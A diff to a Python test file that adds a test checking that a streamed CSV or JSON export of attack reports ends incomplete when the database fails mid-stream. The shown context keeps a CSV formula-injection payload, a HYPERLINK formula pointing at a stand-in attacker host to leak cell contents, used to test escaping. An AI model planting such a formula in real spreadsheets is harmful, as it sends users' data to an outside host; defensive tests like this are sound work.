@@ -2,12 +2,15 @@ from __future__ import annotations
 
 import csv
 import io
+import socket
 
+import httpx
 import pytest
 
 from tcpmirror.cloud.api.files import cell
 from tests.cloud.running import READ, RunningCloud, finding, report
 
+LONG = "x" * 8_000  # rows that no buffer on the way holds all of
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 
 
@@ -58,3 +61,23 @@ def test_cell(value: str, text: str) -> None:
 
 def test_numbers_stay_numbers() -> None:
     assert (cell(-5), cell(None), cell([79, 80]), cell(["=a"])) == ("-5", "", "79 80", "'=a")
+
+
+@pytest.mark.parametrize("ending", ["csv", "json"])
+def test_file_whose_store_fails_on_the_way_does_not_end_in_order(cloud: RunningCloud, ending: str) -> None:
+    sent = [report(number, host=f"h{number}.{LONG}", request_b64="", response_b64="") for number in range(1250)]
+    with cloud.node() as node:
+        node.post("/api/v1/batches", json={"batch_id": "a", "reports": sent}).raise_for_status()
+    narrow = httpx.HTTPTransport(socket_options=[(socket.SOL_SOCKET, socket.SO_RCVBUF, 131_072)])
+    headers = {"Authorization": f"Bearer {READ}"}
+    got = b""
+    with httpx.Client(base_url=cloud.url, headers=headers, transport=narrow, timeout=20) as client:
+        with client.stream("GET", f"/api/v1/attacks.{ending}") as answer:
+            assert answer.status_code == 200
+            with cloud.service.database.writing() as connection:
+                connection.exec_driver_sql("ALTER TABLE attacks RENAME TO lost")
+            with pytest.raises(httpx.RemoteProtocolError, match="incomplete"):
+                for chunk in answer.iter_bytes():
+                    got += chunk
+        assert client.get(f"/api/v1/attacks.{ending}").status_code == 503
+    assert got and not got.endswith(b"]")
